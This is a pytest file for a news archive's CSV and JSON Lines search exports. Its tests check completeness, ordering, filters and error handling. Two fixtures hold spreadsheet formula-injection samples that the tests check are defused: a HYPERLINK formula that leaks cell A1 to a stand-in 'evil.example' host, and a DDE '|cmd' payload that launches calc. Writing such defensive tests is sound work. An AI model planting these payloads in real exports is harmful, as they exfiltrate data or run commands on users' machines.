"""Search exports (GET /api/v1/search.csv and .jsonl) on real BBC texts: every match, no cap."""
import csv
import io
import json
from urllib.parse import urlencode

import pytest

from archive.search.parser import MAX_PER_PAGE
from tests.conftest import make_app
from tests.views.news import bbc_articles, post_batch

COLUMNS = ["id", "title", "url", "source", "author", "published_at", "ingested_at", "actors", "places", "dates"]
FORMULA = {"title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "source": "+Wire", "author": "@admin",
           "url": "https://news.example.org/formula", "published_at": "2004-06-30",
           "body": "-2+3 was the headline figure as finance minister Olena Kovalenko met bankers in Kyiv."}


def generated(count: int) -> list[dict]:
    """Short wire items, enough to pass the search API's largest page."""
    cities = ["Lisbon", "Porto", "Madrid", "Lyon", "Turin", "Hamburg"]
    return [{"body": f"Dock workers in {cities[n % 6]} went on strike on Monday over pay. Report number {n}.",
             "title": f"Strike report {n}", "source": "Wire", "published_at": f"2004-{n % 12 + 1:02d}-{n // 12 + 1:02d}"}
            for n in range(count)]


@pytest.fixture(scope="module")
def news(tmp_path_factory):
    app = make_app(tmp_path_factory.mktemp("exports") / "data")
    client = app.test_client()
    post_batch(client, bbc_articles(30) + [FORMULA] + generated(90))
    yield client
    app.extensions["archive.index"].close()
    app.extensions["archive.engine"].dispose()


def search_ids(client, params: dict) -> tuple[int, list[int]]:
    """The search API's total and the ids it pages through, in order (one per near-duplicate group)."""
    ids, page = [], 1
    while True:
        query = urlencode({**params, "per_page": MAX_PER_PAGE, "page": page, "facets": "none"}, doseq=True)
        data = client.get(f"/api/v1/search?{query}").get_json()
        ids += [hit["id"] for hit in data["results"]]
        if page >= data["pages"]:
            return data["total"], ids
        page += 1


def assert_same_search(exported: list[int], client, params: dict) -> None:
    """Every match once, in the search's order: the API's pages (which may show one article per
    near-duplicate group) are a subsequence of the export, and its total is the export's length."""
    total, shown = search_ids(client, params)
    assert len(exported) == total == len(set(exported)), params
    remaining = iter(exported)
    assert all(any(i == j for j in remaining) for i in shown), params


def csv_rows(client, params: dict) -> list[dict]:
    response = client.get("/api/v1/search.csv?" + urlencode(params, doseq=True))
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    return list(csv.DictReader(io.StringIO(text)))


def jsonl_rows(client, params: dict) -> list[dict]:
    response = client.get("/api/v1/search.jsonl?" + urlencode(params, doseq=True))
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "application/x-ndjson"
    return [json.loads(line) for line in response.get_data(as_text=True).splitlines()]


def test_export_is_not_capped(news):
    rows = csv_rows(news, {})
    assert len(rows) == 121 > MAX_PER_PAGE
    assert_same_search([int(row["id"]) for row in rows], news, {})
    assert [row["id"] for row in jsonl_rows(news, {})] == [int(row["id"]) for row in rows]


def test_filtered_exports_count_what_the_search_counts(news):
    facets = news.get("/api/v1/search?q=government").get_json()["facets"]
    actor = facets["actor"]["results"][0]
    cases = [{"source": "BBC politics", "published_from": "2005-03", "published_to": "2005-10"},
             {"actor": actor["value"], "published_from": "2005"},
             {"q": "government OR minister", "mentioned_from": "2004-01", "country": "GB"}]
    for params in cases:
        rows = jsonl_rows(news, params)
        assert 0 < len(rows) < 121, params
        assert_same_search([row["id"] for row in rows], news, params)
        assert [int(row["id"]) for row in csv_rows(news, params)] == [row["id"] for row in rows]
    politics = jsonl_rows(news, cases[0])
    assert all(r["source"] == "BBC politics" and "2005-03" <= r["published_at"][:7] <= "2005-10" for r in politics)
    assert all(actor["label"] in r["actors"] for r in jsonl_rows(news, cases[1]))


def test_export_keeps_the_search_order_and_ignores_paging(news):
    for params in ({"sort": "newest"}, {"sort": "oldest"}, {"q": "strike"}, {"q": "economy growth"}):
        assert_same_search([int(row["id"]) for row in csv_rows(news, params)], news, params)
    dates = [row["published_at"] for row in csv_rows(news, {"sort": "oldest"})]
    assert dates == sorted(dates)
    paged = csv_rows(news, {"q": "strike", "page": "3", "per_page": "5", "facet_size": "1", "facets": "none"})
    assert len(paged) == search_ids(news, {"q": "strike"})[0] >= 90


def test_rows_carry_entities_dates_and_the_body(news):
    row = next(r for r in jsonl_rows(news, {"source": "BBC business"}) if r["title"] == "Ad sales boost Time Warner profit")
    assert set(row) == {*COLUMNS, "body"}
    article = news.get(f"/api/v1/articles/{row['id']}").get_json()
    assert row["body"] == article["body"] and row["url"] == "https://news.example.org/bbc/business/001"
    assert row["published_at"] == "2005-01-01T00:00:00Z" and row["ingested_at"].endswith("Z")
    assert set(row["actors"]) == {a["name"] for a in article["actors"]} and "Time Warner" in row["actors"]
    assert {f"{p['name']} ({p['country_code']})" if p["country_code"] else p["name"] for p in article["places"]} == set(
        row["places"])
    assert set(row["dates"]) == {d["value"] for d in article["dates"]} and len(row["dates"]) == len(set(row["dates"]))
    line = next(r for r in csv_rows(news, {"source": "BBC business"}) if r["id"] == str(row["id"]))
    assert line["actors"] == "; ".join(row["actors"]) and line["places"] == "; ".join(row["places"])
    assert line["dates"] == "; ".join(row["dates"]) and line["author"] == ""


def test_csv_cells_cannot_be_formulas(news):
    rows = csv_rows(news, {"source": "+Wire"})
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == "'" + FORMULA["title"]
    assert row["source"] == "'+Wire" and row["author"] == "'@admin"
    for row in csv_rows(news, {}):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # JSON Lines is data, not a spreadsheet: values stay as they are.
    assert jsonl_rows(news, {"source": "+Wire"})[0]["title"] == FORMULA["title"]


def test_exports_are_attachments(news):
    for extension in ("csv", "jsonl"):
        response = news.get(f"/api/v1/search.{extension}?q=strike")
        response.close()  # a streamed body not read: end its generator (and request context) now
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment; filename=") and disposition.endswith(f'.{extension}"')


@pytest.mark.parametrize("query", ['q=(unbalanced', "sort=sideways", "published_from=2005-13",
                                   "q=owner:me", "source=a&source=b&q=x&q=y"])
def test_bad_parameters_get_the_search_apis_400(news, query):
    expected = news.get(f"/api/v1/search?{query}")
    assert expected.status_code == 400
    for extension in ("csv", "jsonl"):
        response = news.get(f"/api/v1/search.{extension}?{query}")
        assert response.status_code == 400 and response.is_json
        assert response.get_json() == expected.get_json()


# Issue 16, finding 6: "|" (a DDE call) and the fullwidth and small forms spreadsheets read as "=+-@".
OTHER_FORMULAS = ["|cmd '/C calc'!A0", "＝HYPERLINK(\"https://evil.example\")", "＋Wire", "－2+3", "＠admin",
                  "﹦1+1", "｜cmd"]


def test_csv_cells_starting_with_a_pipe_or_a_fullwidth_sign_are_defused(client):
    post_batch(client, [{"body": f"Dock workers went on strike over pay in report number {n}.", "title": title,
                         "source": "Pipe Wire"} for n, title in enumerate(OTHER_FORMULAS)])
    titles = sorted(row["title"] for row in csv_rows(client, {"source": "Pipe Wire"}))
    assert titles == sorted("'" + title for title in OTHER_FORMULAS)
    assert csv_rows(client, {"source": "Pipe Wire"})[0]["source"] == "Pipe Wire"  # ordinary text stays as it is
